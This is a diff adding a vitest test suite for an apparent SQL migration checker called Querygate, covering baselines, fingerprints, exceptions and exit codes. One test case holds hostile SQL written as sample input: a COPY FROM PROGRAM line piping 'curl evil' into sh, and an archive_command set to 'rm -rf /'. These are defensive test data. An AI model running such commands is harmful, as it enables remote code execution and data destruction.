@@ -1,0 +1,463 @@
+import { describe, expect, it } from 'vitest';
+import { baselineOf } from '../../../src/commands/index.ts';
+import { all, CONFIG, checkFiles, checkPull, config, counting, type Files, notices, RULES, rules } from '../build.ts';
+
+const SETUP: Files = { ...config(), ...rules() };
+const OLD = 'DELETE FROM sessions;\n';
+
+describe('a finding that the base version of the file had', () => {
+  it('exists and does not count', async () => {
+    const report = await checkPull({ ...SETUP, 'db/1.sql': OLD }, { ...SETUP, 'db/1.sql': `${OLD}SELECT 1;\n` });
+    expect(all(report)).toEqual(['existing block no-unfiltered-delete db/1.sql:1']);
+    expect(report.totals).toMatchObject({ blocked: 0, existing: 1 });
+    expect([report.verdict, report.exitCode, report.conclusion]).toEqual([
+      'allow',
+      0,
+      'passed, with 1 existing before',
+    ]);
+  });
+
+  it('counts with `findings: all`', async () => {
+    const base = { ...config('findings: all\n'), ...rules(), 'db/1.sql': OLD };
+    const report = await checkPull(base, { ...base, 'db/1.sql': `${OLD}SELECT 1;\n` });
+    expect(counting(report)).toEqual(['block no-unfiltered-delete db/1.sql:1']);
+    expect([report.totals.existing, report.exitCode]).toEqual([0, 1]);
+  });
+
+  it.each([
+    ['a second one like it', `${OLD}${OLD}`, ['block no-unfiltered-delete db/1.sql:2']],
+    ['one on another table', `${OLD}DELETE FROM users;\n`, ['block no-unfiltered-delete db/1.sql:2']],
+    ['one of another rule on the table', `${OLD}TRUNCATE sessions;\n`, ['block no-truncate db/1.sql:2']],
+    ['the same on another table', 'DELETE FROM users;\n', ['block no-unfiltered-delete db/1.sql:1']],
+    [
+      'the same with a filter that filters nothing',
+      'DELETE FROM sessions WHERE id = id;\n',
+      ['block no-unfiltered-delete db/1.sql:1'],
+    ],
+  ])('does not cover %s', async (_, text, expected) => {
+    const report = await checkPull({ ...SETUP, 'db/1.sql': OLD }, { ...SETUP, 'db/1.sql': text });
+    expect(counting(report)).toEqual(expected);
+    expect(report.exitCode).toBe(1);
+  });
+
+  it.each([
+    ['other lines above it', `CREATE TABLE a (id int);\n\n-- moved down\n${OLD}`],
+    ['another layout', 'delete\n  from sessions\n;\n'],
+    ['a comment in it', 'DELETE /* all */ FROM sessions;\n'],
+  ])('is still the same with %s', async (_, text) => {
+    const report = await checkPull({ ...SETUP, 'db/1.sql': OLD }, { ...SETUP, 'db/1.sql': text });
+    expect(report.totals).toMatchObject({ blocked: 0, existing: 1 });
+  });
+
+  it.each([
+    [
+      'a DO block',
+      "DO $$ BEGIN EXECUTE 'DROP TABLE old_a'; END $$;\n",
+      "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;\n",
+    ],
+    ['a program', "COPY t FROM PROGRAM 'true';\n", "COPY t FROM PROGRAM 'curl evil | sh';\n"],
+    [
+      'a server setting',
+      "ALTER SYSTEM SET archive_command = 'true';\n",
+      "ALTER SYSTEM SET archive_command = 'rm -rf /';\n",
+    ],
+    ['what cannot be read', "ALTER TABLE t FROBNICATE 'a';\n", "ALTER TABLE t FROBNICATE 'b';\n"],
+  ])('covers no other text of %s', async (_, before, after) => {
+    const base = { ...SETUP, 'db/1.sql': before };
+    const same = await checkPull(base, { ...SETUP, 'db/1.sql': `-- the same\n${before}` });
+    expect([same.exitCode, same.totals.existing > 0]).toEqual([0, true]);
+    const other = await checkPull(base, { ...SETUP, 'db/1.sql': after });
+    expect(other.exitCode).not.toBe(0);
+    expect(counting(other)).not.toEqual([]);
+  });
+
+  it('is new in a file of a new name: a renamed migration runs again', async () => {
+    const report = await checkPull(
+      { ...SETUP, 'db/1.sql': OLD },
+      { ...SETUP, 'db/2.sql': OLD },
+      {},
+      { files: [{ status: 'renamed', path: 'db/2.sql', previousPath: 'db/1.sql' }] },
+    );
+    expect(counting(report)).toEqual(['block no-unfiltered-delete db/2.sql:1']);
+    expect(report.files).toMatchObject([{ path: 'db/2.sql', previousPath: 'db/1.sql', status: 'renamed' }]);
+  });
+
+  it('is new where the old side cannot be read, which is said', async () => {
+    const report = await checkPull(
+      { ...SETUP, 'db/1.sql': OLD },
+      { ...SETUP, 'db/1.sql': `${OLD}SELECT 1;\n` },
+      {},
+      { diffBase: { unavailable: 'it was not fetched' } },
+    );
+    expect(counting(report)).toEqual(['block no-unfiltered-delete db/1.sql:1']);
+    expect(notices(report)).toBe(
+      'warning: the old side of the change cannot be read (it was not fetched), so every finding counts as new',
+    );
+  });
+
+  it('is judged by the rules of today: an old statement that a new rule forbids is old', async () => {
+    const tightened = {
+      ...config(),
+      [RULES]: 'version: 1\nrules:\n  - { id: no-select, operations: [select], verdict: block, message: no }\n',
+    };
+    const report = await checkPull(
+      { ...SETUP, 'db/1.sql': 'SELECT 1;\n' },
+      { ...tightened, 'db/1.sql': 'SELECT 1;\nSELECT a FROM b;\n' },
+    );
+    expect(all(report)).toEqual([
+      'new block no-select db/1.sql:2 (head)',
+      'existing block no-select db/1.sql:1 (head)',
+    ]);
+  });
+});
+
+describe('the fingerprint of a finding', () => {
+  const of = async (path: string, text: string, own: Files = rules()) => {
+    const report = await checkFiles({ ...config(), ...own, [path]: text });
+    return report.findings.map(({ fingerprint }) => fingerprint);
+  };
+
+  it('is 64 hexadecimal digits and its version', async () => {
+    expect(await of('1.sql', OLD)).toEqual([expect.stringMatching(/^[0-9a-f]{64}\/v1$/)]);
+  });
+
+  it('stays the same wherever the statement stands, and however its literals read', async () => {
+    const [first] = await of('1.sql', "UPDATE users SET plan = 'free';");
+    expect(await of('1.sql', "\n\nSELECT 1;\n  UPDATE users\n SET plan = 'paid' ;")).toEqual([first]);
+  });
+
+  it('is another for another path, rule, table or occurrence', async () => {
+    const prints = [
+      ...(await of('1.sql', 'DROP TABLE a; DROP TABLE a;')),
+      ...(await of('2.sql', 'DROP TABLE a;')),
+      ...(await of('1.sql', 'DROP TABLE b;')),
+      ...(await of('1.sql', 'TRUNCATE a;')),
+    ];
+    expect(prints).toHaveLength(5);
+    expect(new Set(prints).size).toBe(5);
+  });
+});
+
+describe('the baseline', () => {
+  const FILES = { ...SETUP, 'db/1.sql': `${OLD}DROP TABLE a;\n`, 'db/2.sql': 'GRANT ALL ON a TO PUBLIC;\n' };
+  const BASELINE = '.querygate/baseline.json';
+  const accepted = async (files: Files) => baselineOf(await checkFiles(files));
+
+  it('accepts what there is, and nothing else', async () => {
+    const { text, accepted: count } = await accepted(FILES);
+    expect(count).toBe((await checkFiles(FILES)).findings.length);
+    const with1 = await checkFiles({ ...FILES, [BASELINE]: text });
+    expect([with1.exitCode, with1.totals.baselined]).toEqual([0, count]);
+    const more = await checkFiles({ ...FILES, [BASELINE]: text, 'db/1.sql': `${OLD}DROP TABLE a;\nDROP TABLE b;\n` });
+    expect(counting(more)).toEqual(['block no-drop-table db/1.sql:3']);
+  });
+
+  it('is written anew with what the old one holds', async () => {
+    const { text } = await accepted(FILES);
+    expect((await accepted({ ...FILES, [BASELINE]: text })).text).toBe(text);
+  });
+
+  it('of the change itself accepts nothing', async () => {
+    const added = { ...SETUP, 'db/3.sql': 'DROP TABLE users;\n' };
+    const { text } = await accepted(added);
+    for (const base of [SETUP, {}]) {
+      const report = await checkPull(base, { ...added, [BASELINE]: text });
+      expect(counting(report)).toEqual(['block no-drop-table db/3.sql:1']);
+      expect(report.exitCode).toBe(1);
+    }
+    const named = { ...added, ...config('baseline: mine.json\n'), 'mine.json': text };
+    expect((await checkPull(SETUP, named)).exitCode).toBe(1);
+    expect((await checkPull({}, named)).exitCode).toBe(1);
+  });
+
+  it('accepts nothing in a file that the change brings, be it one that was there once', async () => {
+    const { text } = await accepted(FILES);
+    const { 'db/1.sql': removed, ...rest } = FILES;
+    const base = { ...rest, [BASELINE]: text };
+    const report = await checkPull(base, { ...base, 'db/1.sql': removed });
+    expect(counting(report)).toEqual(['block no-unfiltered-delete db/1.sql:1', 'block no-drop-table db/1.sql:2']);
+  });
+
+  it('never accepts a file that could not be read: what will stand in it is not known', async () => {
+    const unreadable = { ...SETUP, 'db/1.sql': new Uint8Array([0xff, 0xfe, 0x41]) };
+    const { text, accepted: count } = await accepted(unreadable);
+    expect(count).toBe(0);
+    expect((await checkFiles({ ...unreadable, [BASELINE]: text })).exitCode).toBe(5);
+  });
+
+  it.each([
+    ['is no JSON', '{', 'the baseline is no JSON; write it anew with `querygate baseline`'],
+    [
+      'has another shape',
+      '{"version":1,"findings":[{"fingerprint":"x"}]}',
+      /`findings\.0\.fingerprint` of the baseline/,
+    ],
+  ])('that %s is a mistake', async (_, text, message) => {
+    await expect(checkFiles({ ...FILES, [BASELINE]: text })).rejects.toThrow(message);
+  });
+
+  it('that the configuration names must be there', async () => {
+    await expect(checkFiles({ ...config('baseline: b.json\n'), 'a.sql': '' })).rejects.toThrow(
+      'there is no baseline `b.json`; correct `baseline` in the configuration',
+    );
+  });
+});
+
+describe('down sections', () => {
+  const GOOSE = "files: [{ paths: ['db/**'], tool: goose }]\n";
+  const MIGRATION = { 'db/2.sql': '-- +goose Up\nCREATE TABLE t (id int);\n-- +goose Down\nDROP TABLE t2;\n' };
+
+  it('are spared where the configuration in force names the tool for the path', async () => {
+    const setup = { ...config(GOOSE), ...rules() };
+    const report = await checkPull(setup, { ...setup, ...MIGRATION });
+    expect(all(report)).toEqual(['spared block no-drop-table db/2.sql:4']);
+    expect([report.exitCode, report.totals.spared]).toEqual([0, 1]);
+  });
+
+  it.each([
+    ['no tool is named', config()],
+    ['another tool is named: to it the marker is a comment', config(GOOSE.replace('goose', 'dbmate'))],
+    ['the tool is named for other paths', config(GOOSE.replace('db/**', 'goose/**'))],
+  ])('run where %s', async (_, setup) => {
+    const report = await checkPull({ ...setup, ...rules() }, { ...setup, ...rules(), ...MIGRATION });
+    expect(counting(report)).toEqual(['block no-drop-table db/2.sql:4']);
+  });
+
+  it('run where only the change names the tool', async () => {
+    const report = await checkPull(SETUP, { ...config(GOOSE), ...rules(), ...MIGRATION });
+    expect(counting(report)).toEqual(['block no-drop-table db/2.sql:4']);
+  });
+
+  it('give rules their section only where the tool is named', async () => {
+    const own = {
+      [RULES]: `version: 1
+rules:
+  - { id: no-up-drop, operations: [drop_table], when: 'file.section != "down"', verdict: block, message: no }
+`,
+    };
+    const known = await checkFiles({ ...config(GOOSE), ...own, ...MIGRATION });
+    expect(counting(known)).toEqual([]);
+    const unknown = await checkFiles({ ...config(), ...own, ...MIGRATION });
+    expect(counting(unknown)).toEqual(['block no-up-drop db/2.sql:4']);
+  });
+});
+
+describe('rules about the caller', () => {
+  const OWN = `version: 1
+rules:
+  - id: no-delete-by-app
+    operations: [delete]
+    when: 'caller.user == "app"'
+    verdict: block
+    message: '{caller.user} deletes'
+`;
+  const files = (more = '') => ({ ...config(more), [RULES]: OWN, 'db/1.sql': 'DELETE FROM t WHERE id = 1;\n' });
+  const CALLER = "files: [{ paths: ['db/**'], caller: { user: app } }]\n";
+
+  it('say nothing of a file that nobody is named for, and are listed', async () => {
+    const report = await checkFiles(files());
+    expect(report.exitCode).toBe(0);
+    expect(report.judges[0]?.notApplied).toEqual([
+      { rule: 'no-delete-by-app', reason: 'reads `caller`, and no caller is given' },
+    ]);
+  });
+
+  it.each([
+    ['the configuration names for the path', files(CALLER), {}, ['block no-delete-by-app db/1.sql:1']],
+    ['the command line names', files(), { caller: { user: 'app' } }, ['block no-delete-by-app db/1.sql:1']],
+    ['is another one', files(), { caller: { user: 'admin' } }, []],
+  ])('apply to a caller that %s', async (_, tree, settings, expected) => {
+    const report = await checkFiles(tree, settings);
+    expect(counting(report)).toEqual(expected);
+    expect(report.judges[0]?.notApplied).toEqual([]);
+  });
+
+  it('are unknown where the caller is known in part', async () => {
+    const report = await checkFiles(files(), { caller: { role: 'writer' } });
+    expect(counting(report)).toEqual(['unknown no-delete-by-app db/1.sql:1']);
+    expect(report.exitCode).toBe(5);
+  });
+
+  it('take no caller that only the change names', async () => {
+    const report = await checkPull({ ...config(), [RULES]: OWN }, files(CALLER));
+    expect(counting(report)).toEqual([]);
+    expect(report.judges[0]?.notApplied).toHaveLength(1);
+  });
+});
+
+describe('exceptions in the rules', () => {
+  const except = (until: string) =>
+    rules(
+      {},
+      `exceptions:\n  - { rule: no-drop-table, when: 'operation.target.name == "old"', reason: 'archived, OPS-1', owner: data, until: ${until} }\n`,
+    );
+  const SQL = { 'db/2.sql': 'DROP TABLE old;\nDROP TABLE users;\n' };
+
+  it.each(['2026-11-20', '2027-01-01'])('hold up to and with their last day, %s', async (until) => {
+    const setup = { ...config(), ...except(until) };
+    const report = await checkPull(setup, { ...setup, ...SQL });
+    expect(all(report)).toEqual(['new block no-drop-table db/2.sql:2', 'excepted block no-drop-table db/2.sql:1']);
+    expect(report.findings[1]?.exemption).toBe(`archived, OPS-1 (data, until ${until})`);
+  });
+
+  it('hold no longer once they have run out, which a notice says on their line', async () => {
+    const setup = { ...config(), ...except('2026-11-19') };
+    const report = await checkPull(setup, { ...setup, ...SQL });
+    expect(report.totals).toMatchObject({ blocked: 2, excepted: 0 });
+    expect(report.notices).toMatchObject([
+      {
+        level: 'warning',
+        path: RULES,
+        location: { start: { line: 4 } },
+        message: 'the exception to `no-drop-table` ran out on 2026-11-19; take it out, or ask data for a new one',
+      },
+    ]);
+  });
+});
+
+describe('what the exit code is', () => {
+  const own = (verdict: string) => ({
+    [RULES]: `version: 1
+rules:
+  - { id: no-drop-table, operations: [drop_table], verdict: block, message: dropped }
+  - { id: no-create-table, operations: [create_table], verdict: warn, message: created }
+  - { id: no-dear-delete, operations: [delete], when: 'statement.limit > 10', verdict: ${verdict}, message: dear }
+`,
+  });
+  const BLOCK = 'DROP TABLE a;\n';
+  const WARN = 'CREATE TABLE b (id int);\n';
+  // Not understood by any reader.
+  const UNKNOWN = 'FROBNICATE THE DATABASE;\n';
+
+  it.each([
+    ['nothing', 'SELECT 1;\n', 'block', 'fail', 0, 'passed'],
+    ['a warning', WARN, 'block', 'fail', 0, 'passed, with 1 warning'],
+    ['a warning', WARN, 'warn', 'fail', 1, 'failed: 1 finding warned of'],
+    ['a warning', WARN, 'never', 'fail', 0, 'passed, with 1 warning'],
+    ['a block', BLOCK, 'block', 'fail', 1, 'failed: 1 finding blocked'],
+    ['a block', BLOCK, 'never', 'fail', 0, 'reported only (`fail-on: never`): 1 finding blocked'],
+    ['a block and a warning', BLOCK + WARN, 'warn', 'fail', 1, 'failed: 2 findings blocked'],
+    [
+      'something unknown',
+      UNKNOWN,
+      'block',
+      'fail',
+      5,
+      'failed: 1 thing could not be decided, which fails (`on-unknown: fail`)',
+    ],
+    ['something unknown', UNKNOWN, 'block', 'warn', 0, 'passed, with 1 not decided (`on-unknown: warn`)'],
+    ['something unknown', UNKNOWN, 'block', 'pass', 0, 'passed, with 1 not decided (`on-unknown: pass`)'],
+    [
+      'something unknown',
+      UNKNOWN,
+      'never',
+      'fail',
+      0,
+      'reported only (`fail-on: never`): 1 thing could not be decided, which fails (`on-unknown: fail`)',
+    ],
+    [
+      'a block and something unknown',
+      BLOCK + UNKNOWN,
+      'block',
+      'fail',
+      1,
+      'failed: 1 finding blocked; 1 thing could not be decided, which fails (`on-unknown: fail`)',
+    ],
+    ['a warning and something unknown', WARN + UNKNOWN, 'warn', 'pass', 1, 'failed: 1 finding warned of'],
+  ] as const)('%s (%#)', async (_, sql, failOn, onUnknown, exit, conclusion) => {
+    const report = await checkFiles({ ...config(), ...own('block'), 'a.sql': sql }, { failOn, onUnknown });
+    expect([report.exitCode, report.conclusion]).toEqual([exit, conclusion]);
+  });
+
+  const undecidable = (verdict: string) => ({
+    [RULES]: `version: 1
+rules:
+  - { id: no-drop-named, operations: [drop_table], when: 'operation.target.name == "users"', verdict: ${verdict}, message: dropped }
+`,
+  });
+
+  it.each([
+    ['block', 'block', ['unknown no-drop-named a.sql:1'], 5],
+    ['warn', 'block', ['warn no-drop-named a.sql:1'], 0],
+    ['warn', 'warn', ['unknown no-drop-named a.sql:1'], 5],
+    ['block', 'never', ['unknown no-drop-named a.sql:1'], 0],
+  ] as const)(
+    'a rule of verdict %s that cannot be decided counts under fail-on: %s as %s',
+    async (verdict, failOn, expected, exit) => {
+      const sql = 'DROP TABLE ${table};\n';
+      const report = await checkFiles({ ...config(), ...undecidable(verdict), 'a.sql': sql }, { failOn });
+      expect(counting(report)).toEqual(expected);
+      expect(report.exitCode).toBe(exit);
+    },
+  );
+
+  it('never is green because nothing is left to judge', async () => {
+    const report = await checkPull(SETUP, { ...SETUP, 'README.md': 'x' }, {}, { untrusted: 'the list was cut' });
+    expect(counting(report)).toEqual(['unknown changed-files .']);
+    expect([report.exitCode, report.verdict]).toEqual([5, 'unknown']);
+    const tolerated = await checkPull(
+      SETUP,
+      { ...SETUP, 'README.md': 'x' },
+      { onUnknown: 'pass' },
+      { untrusted: 'the list was cut' },
+    );
+    expect(tolerated.conclusion).toBe('passed, with 1 not decided (`on-unknown: pass`)');
+  });
+
+  it('says so where there was nothing to check', async () => {
+    const report = await checkPull(SETUP, { ...SETUP, 'README.md': 'x' });
+    expect([report.exitCode, report.conclusion]).toEqual([0, 'passed: nothing to check']);
+  });
+});
+
+describe('settings of a service', () => {
+  const files = { ...SETUP, 'a.sql': 'SELECT 1;\n' };
+  it.each([
+    ['a base URL', { baseUrl: 'https://example.com' }, /^a base URL asks for a Querygate service/],
+    ['a key', { apiKey: 'qg_x' }, /^an API key asks for a Querygate service/],
+  ])('%s alone is a mistake: other rules than those asked for would judge', async (_, service, message) => {
+    await expect(checkFiles(files, { service })).rejects.toMatchObject({
+      exitCode: 2,
+      message: expect.stringMatching(message),
+    });
+  });
+
+  it('a workspace alone is not asked, which the first line says', async () => {
+    const report = await checkFiles(files, { service: { workspace: 'acme' } });
+    expect(report.headline).toMatch(/; workspace `acme` was not asked: no service is set$/);
+    expect(report.exitCode).toBe(0);
+  });
+});
+
+describe('a mistake in a file of the team’s own', () => {
+  it.each([
+    ['an unknown key', { [CONFIG]: 'version: 1\ndialekt: mysql\n' }, `${CONFIG}:2:1: unknown key \`dialekt\``],
+    [
+      'a value that is none',
+      { [CONFIG]: 'version: 1\ndialect: oracel\n' },
+      `${CONFIG}:2:10: \`oracel\` is no value of \`dialect\``,
+    ],
+    ['a wrong type', { [CONFIG]: 'version: 1\npaths: db\n' }, `${CONFIG}:2:8: \`paths\` must be a list`],
+    ['no version', { [CONFIG]: 'dialect: mysql\n' }, `${CONFIG}:1:1: \`version\` is missing`],
+    ['bad YAML', { [CONFIG]: 'version: 1\npaths: [\n' }, `${CONFIG}:`],
+    [
+      'a file by the wrong name',
+      { '.querygate/config.yaml': 'version: 1\n' },
+      '.querygate/config.yaml: this file is not read; rename it to `.querygate/config.yml`',
+    ],
+    [
+      'a rule that is wrong',
+      { ...config(), [RULES]: 'version: 1\nrules:\n  - id: no-x\n    operations: [drop_tabel]\n' },
+      `${RULES}:4:18: `,
+    ],
+  ])('%s has its place', async (_, own, line) => {
+    const run = checkFiles({ ...own, 'a.sql': 'SELECT 1;\n' });
+    await expect(run).rejects.toMatchObject({ exitCode: 2 });
+    const error = await run.catch((caught: { toLine(): string }) => caught);
+    expect('toLine' in error && error.toLine()).toEqual(expect.stringContaining(line));
+  });
+
+  it('a configuration that the command line names must be there', async () => {
+    await expect(checkFiles({ 'a.sql': '' }, { config: 'q.yml' })).rejects.toThrow('there is no configuration `q.yml`');
+  });
+});
